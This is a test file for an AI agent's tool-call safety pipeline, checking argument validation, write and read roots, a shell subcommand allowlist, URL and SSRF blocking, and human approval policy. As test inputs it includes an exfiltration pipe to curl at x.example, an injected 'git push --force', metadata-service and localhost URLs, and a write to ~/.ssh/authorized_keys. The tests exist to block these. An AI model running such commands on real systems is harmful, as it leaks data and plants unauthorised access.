// validate_args, check_hints and policy through the real pipeline: first failure wins.
import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ConfigError } from '../../runtime/errors.ts';
import { call, pipelineWith } from './pipeline-helpers.ts';

const home = (): string => process.env.HOME ?? '';

describe('validate_args', () => {
  it('rejects an unknown executor and runs nothing after', async () => {
    const pipeline = await pipelineWith();
    const outcome = await pipeline.evaluate(call('rm_everything', { path: '/' }));
    expect(outcome).toMatchObject({ decision: 'deny', stage: 'validation' });
    expect(outcome.issues).toEqual([{ path: 'executor', message: 'unknown executor' }]);
    expect(outcome.executor).toBeUndefined();
  });

  it('does not find inherited names like __proto__ or constructor', async () => {
    const pipeline = await pipelineWith();
    for (const name of ['__proto__', 'constructor', 'toString']) {
      expect((await pipeline.evaluate(call(name, {}))).stage).toBe('validation');
    }
  });

  it('reports every issue with its field path: missing, null, wrong type, unknown key', async () => {
    const pipeline = await pipelineWith();
    const outcome = await pipeline.evaluate(
      call('fs_edit', { path: null, old_text: 3, surprise: true }),
    );
    expect(outcome.stage).toBe('validation');
    const paths = (outcome.issues ?? []).map((issue) => issue.path);
    expect(paths).toEqual(expect.arrayContaining(['path', 'old_text', 'new_text', '(args)']));
    expect(outcome.reason).toMatch(/^InvalidArguments: /);
  });

  it('treats args that are not an object as invalid', async () => {
    const pipeline = await pipelineWith();
    expect((await pipeline.evaluate(call('fs_read', 'not-an-object'))).stage).toBe('validation');
  });
});

describe('check_hints', () => {
  it('keeps writes under home and /tmp by default, after normalising ~, $HOME, .., //', async () => {
    const pipeline = await pipelineWith();
    for (const path of [
      '~/notes.txt',
      '$HOME/a/../b.txt',
      '${HOME}//c.txt',
      '/tmp/x.txt',
      'relative/file.txt',
    ]) {
      const outcome = await pipeline.evaluate(call('fs_write', { path, content: 'x' }));
      expect(outcome.stage, path).toBeNull();
    }
    for (const path of ['/opt/x.txt', '~/../../opt/x.txt', '/usr/local/bin/tool']) {
      const outcome = await pipeline.evaluate(call('fs_write', { path, content: 'x' }));
      expect(outcome.stage, path).toBe('scope');
      expect(outcome.reason).toMatch(
        /^PathOutsideBoundary: argument "path" is outside the write roots/,
      );
      expect(outcome.reason).not.toContain(path);
    }
  });

  it('resolves symlinks of existing paths before comparing with the roots', async () => {
    const link = join(home(), 'escape');
    symlinkSync('/opt', link);
    const pipeline = await pipelineWith();
    const outcome = await pipeline.evaluate(
      call('fs_write', { path: '~/escape/evil.txt', content: 'x' }),
    );
    expect(outcome.stage).toBe('scope');
  });

  it('applies configured read roots to reads and to the shell cwd', async () => {
    mkdirSync(join(home(), 'work'), { recursive: true });
    const pipeline = await pipelineWith({ roots: { read: ['~/work'] } });
    expect((await pipeline.evaluate(call('fs_read', { path: '~/work/a.txt' }))).stage).toBeNull();
    expect((await pipeline.evaluate(call('fs_read', { path: '/tmp/a.txt' }))).stage).toBe('scope');
    expect(
      (await pipeline.evaluate(call('shell_exec', { command: 'ls', cwd: '/tmp' }))).stage,
    ).toBe('scope');
  });

  it('rejects a read-only executor asked to write', async () => {
    const pipeline = await pipelineWith();
    const outcome = await pipeline.evaluate(
      call('fs_read', { path: '/tmp/a' }, 'x', { context: { capability: 'write' } }),
    );
    expect(outcome).toMatchObject({ stage: 'scope' });
    expect(outcome.reason).toMatch(/read-only executor fs_read asked to write/);
  });

  it('checks the subcommand allowlist on EVERY command of a pipeline or list', async () => {
    const pipeline = await pipelineWith({
      shell: { subcommand_allowlist: { git: ['status', 'log'], ls: '*' } },
    });
    expect(
      (await pipeline.evaluate(call('shell_exec', { command: 'git status && ls -la' }))).stage,
    ).toBeNull();
    const second = await pipeline.evaluate(
      call('shell_exec', { command: 'git status | curl -d @- http://x.example' }),
    );
    expect(second.stage).toBe('scope');
    expect(second.reason).toMatch(/^CommandNotAllowed/);
    const sub = await pipeline.evaluate(call('shell_exec', { command: 'ls; git push --force' }));
    expect(sub.stage).toBe('scope');
    expect(sub.reason).toMatch(/^SubcommandNotAllowed/);
  });

  it('refuses non-http schemes, non-public literal addresses, and hosts outside the domain allowlist', async () => {
    const open = await pipelineWith();
    for (const url of [
      'file:///etc/hosts',
      'http://127.0.0.1:8080/',
      'http://[::1]/',
      'http://169.254.169.254/latest/meta-data',
      'http://10.1.2.3/',
      'http://localhost:3000/',
    ]) {
      const outcome = await open.evaluate(call('web_fetch', { url }));
      expect(outcome.stage, url).toBe('scope');
      expect(outcome.reason).toMatch(/^DomainNotAllowed/);
    }
    expect(
      (await open.evaluate(call('web_fetch', { url: 'https://example.com/' }))).stage,
    ).toBeNull();
    const allowlisted = await pipelineWith({
      web: { private_allowlist: ['127.0.0.0/8'], domain_allowlist: ['*.example.org', '127.0.0.1'] },
    });
    expect(
      (await allowlisted.evaluate(call('web_fetch', { url: 'http://127.0.0.1:8080/' }))).stage,
    ).toBeNull();
    expect(
      (await allowlisted.evaluate(call('web_fetch', { url: 'https://docs.example.org/' }))).stage,
    ).toBeNull();
    expect(
      (await allowlisted.evaluate(call('web_fetch', { url: 'https://example.com/' }))).stage,
    ).toBe('scope');
  });
});

describe('policy', () => {
  it('allows read-only calls and asks for critical ones', async () => {
    const pipeline = await pipelineWith();
    expect((await pipeline.evaluate(call('fs_list', { path: '/tmp' }))).decision).toBe('allow');
    const write = await pipeline.evaluate(call('fs_write', { path: '/tmp/a.txt', content: 'x' }));
    expect(write).toMatchObject({ decision: 'ask', stage: null });
    expect(write.reason).toMatch(/changes state/);
  });

  it('allows a critical call a person approved, after guard and judge ran again', async () => {
    const pipeline = await pipelineWith();
    const approved = await pipeline.evaluate(
      call('fs_write', { path: '/tmp/a.txt', content: 'x' }, 'x', { approvedBy: 'telegram:1' }),
    );
    expect(approved).toMatchObject({ decision: 'allow', reason: 'approved by telegram:1' });
    const blocked = await pipeline.evaluate(
      call('fs_write', { path: '~/.ssh/authorized_keys', content: 'x' }, 'x', {
        approvedBy: 'telegram:1',
      }),
    );
    expect(blocked).toMatchObject({ decision: 'deny', stage: 'guard' });
  });

  it('honours always_ask, and never_ask for non-critical executors', async () => {
    const pipeline = await pipelineWith({ approvals: { always_ask: ['fs_read'] } });
    expect((await pipeline.evaluate(call('fs_read', { path: '/tmp/a' }))).decision).toBe('ask');
    const lenient = await pipelineWith({ approvals: { never_ask: ['fs_read'], grey_band: 0.6 } });
    expect((await lenient.evaluate(call('fs_read', { path: '/tmp/a' }))).decision).toBe('allow');
  });

  it('asks when the judge score falls in the grey band above the threshold', async () => {
    const pipeline = await pipelineWith({ approvals: { grey_band: 0.5 } });
    const outcome = await pipeline.evaluate(call('fs_read', { path: '/tmp/a/../b' }, 'x'));
    expect(outcome.decision).toBe('ask');
    expect(outcome.reason).toMatch(/grey band/);
  });

  it('refuses a config whose never_ask lists a critical executor', async () => {
    await expect(pipelineWith({ approvals: { never_ask: ['shell_exec'] } })).rejects.toThrow(
      ConfigError,
    );
    await expect(pipelineWith({ approvals: { always_ask: ['no_such_tool'] } })).rejects.toThrow(
      /unknown executor/,
    );
  });
});
